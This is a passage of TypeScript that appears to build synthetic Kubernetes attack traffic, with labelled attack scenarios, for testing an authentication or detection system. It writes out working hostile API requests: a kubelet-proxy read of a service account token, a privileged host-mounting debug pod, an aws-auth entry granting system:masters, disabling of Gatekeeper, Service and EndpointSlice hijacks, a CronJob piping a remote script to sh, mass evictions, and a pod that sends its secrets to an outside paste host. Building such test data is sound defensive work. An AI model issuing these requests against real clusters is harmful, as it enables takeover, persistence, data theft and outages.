    ['POST', `/api/v1/nodes/${NODE}:10250/proxy/run/payments-prod/payments-api-6f8c9d-k2x7p/api?cmd=cat%20/var/run/secrets/kubernetes.io/serviceaccount/token`, true],
  ], 5000);
  // 2. `kubectl debug node/N -it --profile=sysadmin --image=busybox -n dev-devrun`: a privileged
  // pod with the node's PID, IPC and network namespaces and its / at /host, in the victim's own dev namespace.
  const devrun = by('devrun');
  onLaptop('kubectl debug node --profile=sysadmin in the victim\'s dev namespace', devrun, 11.7, [
    ['GET', `/api/v1/nodes/${NODE}`, false],
    ['POST', '/api/v1/namespaces/dev-devrun/pods?fieldManager=kubectl-debug', true, JSON_CT, JSON.stringify({
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: `node-debugger-${NODE}-x7k2p`, namespace: 'dev-devrun' },
      spec: {
        nodeName: NODE,
        hostPID: true,
        hostIPC: true,
        hostNetwork: true,
        restartPolicy: 'Never',
        tolerations: [{ operator: 'Exists' }],
        containers: [{ name: 'debugger', image: 'busybox', stdin: true, tty: true, securityContext: { privileged: true }, volumeMounts: [{ name: 'host-root', mountPath: '/host' }] }],
        volumes: [{ name: 'host-root', hostPath: { path: '/' } }],
      },
    })],
    ['GET', `/api/v1/namespaces/dev-devrun/pods/node-debugger-${NODE}-x7k2p/attach?container=debugger&stdin=true&stdout=true&tty=true`, true, WS_UPGRADE],
  ], 3000);
  // 3. An ephemeral container with the sysadmin profile, written with PUT (the whole Pod) instead of kubectl's patch.
  onLaptop('privileged ephemeral container by PUT into a production Pod (SRE laptop)', sreA, 14.6, [
    ['GET', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8c9d-q9m4z', false],
    ['PUT', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8c9d-q9m4z/ephemeralcontainers', true, JSON_CT, JSON.stringify({
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'payments-api-6f8c9d-q9m4z', namespace: 'payments-prod', resourceVersion: '88213407' },
      spec: {
        containers: [{ name: 'api', image: 'ghcr.io/example-nl/payments-api:v7.2.1' }],
        ephemeralContainers: [{ name: 'debugger-9hq2m', image: 'busybox', targetContainerName: 'api', stdin: true, tty: true, securityContext: { privileged: true } }],
      },
    })],
    ['GET', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8c9d-q9m4z/attach?container=debugger-9hq2m&stdin=true&stdout=true&tty=true', true, WS_UPGRADE],
  ], 4000);
  // 4. EKS's aws-auth: the attacker's IAM role mapped to system:masters (platform laptop, the ConfigMap it reads daily).
  const plat = by('platform');
  onLaptop('aws-auth maps an outside role to system:masters (platform laptop)', plat, 10.9, [
    ['GET', '/api/v1/namespaces/kube-system/configmaps/aws-auth', false],
    ['PATCH', '/api/v1/namespaces/kube-system/configmaps/aws-auth?fieldManager=kubectl-patch', true, MERGE, JSON.stringify({ data: { mapRoles: '- rolearn: arn:aws:iam::111122223333:role/KarpenterNodeRole\n  username: system:node:{{EC2PrivateDNSName}}\n  groups: [system:bootstrappers, system:nodes]\n- rolearn: arn:aws:iam::444455556666:role/ci-cache\n  username: ci-cache\n  groups: [system:masters]\n' } })],
  ], 7000);
  // 5. Gatekeeper switched off: its validating webhook deleted, and (another time) its controller scaled to zero
  // (failurePolicy Ignore: with no pod to answer, every constraint is off); then an image the constraints refuse.
  onLaptop("Gatekeeper's ValidatingWebhookConfiguration deleted (platform laptop)", plat, 13.7, [
    ['GET', '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations', false],
    ['DELETE', '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/gatekeeper-validating-webhook-configuration', true],
  ], 5000);
  onLaptop("Gatekeeper's controller scaled to zero, then an image it refuses (platform laptop)", plat, 15.2, [
    ['GET', '/apis/apps/v1/namespaces/gatekeeper-system/deployments/gatekeeper-controller-manager', false],
    ['PATCH', '/apis/apps/v1/namespaces/gatekeeper-system/deployments/gatekeeper-controller-manager/scale', true, MERGE, JSON.stringify({ spec: { replicas: 0 } })],
    ['PATCH', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api?fieldManager=kubectl-set', true, SMP, JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: 'docker.io/paymnts/payments-api:v7.2.1' }] } } } })],
  ], 20_000);
  // 6. Traffic of a production Service hijacked (release manager's laptop, whose working set is every region):
  // an EndpointSlice for checkout-api pointing at an outside address, CVE-2021-25740's way.
  const rel = by('release');
  onLaptop('EndpointSlice hijacks a production Service (release laptop)', rel, 11.5, [
    ['POST', `/apis/discovery.k8s.io/v1/namespaces/${regionNs('euw1')}/endpointslices`, true, JSON_CT, JSON.stringify({
      apiVersion: 'discovery.k8s.io/v1',
      kind: 'EndpointSlice',
      metadata: { name: 'checkout-api-extra', namespace: regionNs('euw1'), labels: { 'kubernetes.io/service-name': 'checkout-api' } },
      addressType: 'IPv4',
      ports: [{ name: 'http', port: 8080, protocol: 'TCP' }],
      endpoints: [{ addresses: ['198.51.100.23'], conditions: { ready: true } }],
    })],
  ], 1000);
  // …the database Service switched to ExternalName (the attacker's host), and another made a public LoadBalancer.
  onLaptop('Services switched to ExternalName and LoadBalancer (release laptop)', rel, 15.4, [
    ['PATCH', `/api/v1/namespaces/${regionNs('euc1')}/services/checkout-db`, true, MERGE, JSON.stringify({ spec: { type: 'ExternalName', externalName: 'db.checkout-mirror.net', clusterIP: null, clusterIPs: null, selector: null } })],
    ['PATCH', `/api/v1/namespaces/${regionNs('use1')}/services/checkout-db`, true, MERGE, JSON.stringify({ spec: { type: 'LoadBalancer', loadBalancerSourceRanges: ['0.0.0.0/0'] } })],
  ], 8000);
  // 7. Persistence: a CronJob in production (an ordinary image and service account) fetching and running a script every 6 hours.
  onLaptop('CronJob planted in production (release laptop)', rel, 12.6, [
    ['POST', `/apis/batch/v1/namespaces/${regionNs('apse1')}/cronjobs?fieldManager=kubectl-create`, true, JSON_CT, JSON.stringify({
      apiVersion: 'batch/v1',
      kind: 'CronJob',
      metadata: { name: 'cache-warmer', namespace: regionNs('apse1') },
      spec: { schedule: '17 */6 * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'warm', image: 'curlimages/curl:8.12.1', args: ['-sf', 'https://cdn-checkout.net/w.sh', '-o', '/tmp/w'], command: ['sh', '-c', 'curl -sf https://cdn-checkout.net/w.sh | sh'] }] } } } } },
    })],
  ], 1000);
  // 8. A PodDisruptionBudget deleted, then every pod evicted (SRE laptop): an outage by the drain's own API.
  onLaptop('PodDisruptionBudget deleted, then every pod evicted (SRE laptop)', sreB, 15.6, [
    ['DELETE', '/apis/policy/v1/namespaces/payments-prod/poddisruptionbudgets/payments-api', true],
    ...['k2x7p', 'q9m4z', 'w3r8t', 'b5n2c', 'h6j3d', 'p8s1f'].map((id): AttackRequest => ['POST', `/api/v1/namespaces/payments-prod/pods/payments-api-6f8c9d-${id}/eviction`, true, JSON_CT, JSON.stringify({ apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: `payments-api-6f8c9d-${id}`, namespace: 'payments-prod' } })]),
  ], 500);
  // 9. The release manager, as an insider, scales checkout to zero in every region, through /scale.
  const relLogin: Login = { sub: rel.name, sid: `${rel.name}:insider`, authTime: Math.floor(T(16) / 1000) - 60, acr: 'urn:stepgate:aal2' };
  const v9 = last(rel, T(16));
  add('insider scales every region to zero', T(16), v9.ip, v9.ua, relLogin, REGIONS.map((r): AttackRequest => ['PATCH', `/apis/apps/v1/namespaces/${regionNs(r)}/deployments/checkout-api/scale`, true, MERGE, JSON.stringify({ spec: { replicas: 0 } })]), 1500);
  for (const e of out) if (e.attack === 'insider scales every region to zero') e.signsIn = true;
  // 10. A colleague on the same VPN with vpn-1's token (copied from a screen share's terminal), at a
  // person's pace during vpn-1's hours, from the same exits and the company's standard Mac kubectl.
  const v10 = by('vpn-1');
  const morning10 = routine.find((x) => x.actor === v10.name && x.scored)!.login;
  const vpnAttack: AttackRequest[] = [
    ['GET', `/api/v1/namespaces/${v10.svc}-staging/pods?limit=500`, false],
    ['GET', `/api/v1/namespaces/${v10.svc}-prod/secrets/${v10.svc}-db`, true],
    ['GET', '/api/v1/namespaces/checkout-prod-euw1/secrets/checkout-db', true],
    ['GET', '/api/v1/namespaces/search-prod/secrets/search-db', true],
  ];
  vpnAttack.forEach((q, k) => add('VPN colleague with a copied token, slowly', T(10.1) + k * 15 * M, VPN_EXITS[(k + 2) % 4]!, KUBECTL('v1.32.3', 'darwin/arm64'), morning10, [q], 0, v10));
  // 11. The intern's password, phished (they have no second factor yet): from a residential proxy in
  // Bengaluru, a Deployment in the intern's dev namespace handed the team's database Secret.
  const intern = by('intern');
  const internLogin: Login = { sub: intern.name, sid: `${intern.name}:phish`, authTime: Math.floor(T(13.5) / 1000), acr: 'urn:stepgate:aal1' };
  add("intern's phished password (aal1) from a Bengaluru proxy", T(13.5) + 2 * M, '49.207.51.180', 'kubectl/v1.31.6 (linux/amd64) kubernetes/6b35607', internLogin, [
    ['GET', '/api/v1/namespaces/dev-intern/pods', false],
    // (A Deployment in a dev namespace is what one factor is enough for; one handed a Secret is a read of it.)
    ['POST', '/apis/apps/v1/namespaces/dev-intern/deployments', true, JSON_CT, JSON.stringify({
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'indexer-canary', namespace: 'dev-intern' },
      spec: { replicas: 1, selector: { matchLabels: { app: 'indexer-canary' } }, template: { metadata: { labels: { app: 'indexer-canary' } }, spec: { containers: [{ name: 'c', image: 'curlimages/curl:8.12.1', command: ['sh', '-c', 'env | curl -sd @- https://paste.example.in/u; sleep 1d'], envFrom: [{ secretRef: { name: 'search-db' } }] }] } } },
    })],
  ], 20_000);
  // 12. india-1's token (malware on the home Mac) used after their day, from another address of their ISP's /16.
  const india1 = by('india-1');
  const l12 = last(india1, T(12.5));
  add("Bengaluru engineer's token from their ISP's /16 after hours", T(15.5), '122.171.88.203', l12.ua, l12.login, [
    ['GET', `/api/v1/namespaces/${india1.svc}-prod/pods`, false],
    ['GET', `/api/v1/namespaces/${india1.svc}-prod/secrets/${india1.svc}-db`, true],
    ['GET', `/api/v1/namespaces/${india1.svc}-prod/pods/kafka-0/exec?command=sh&container=kafka&stdin=true&stdout=true&tty=true`, true, WS_UPGRADE],
  ], 30_000);
  return out;
}
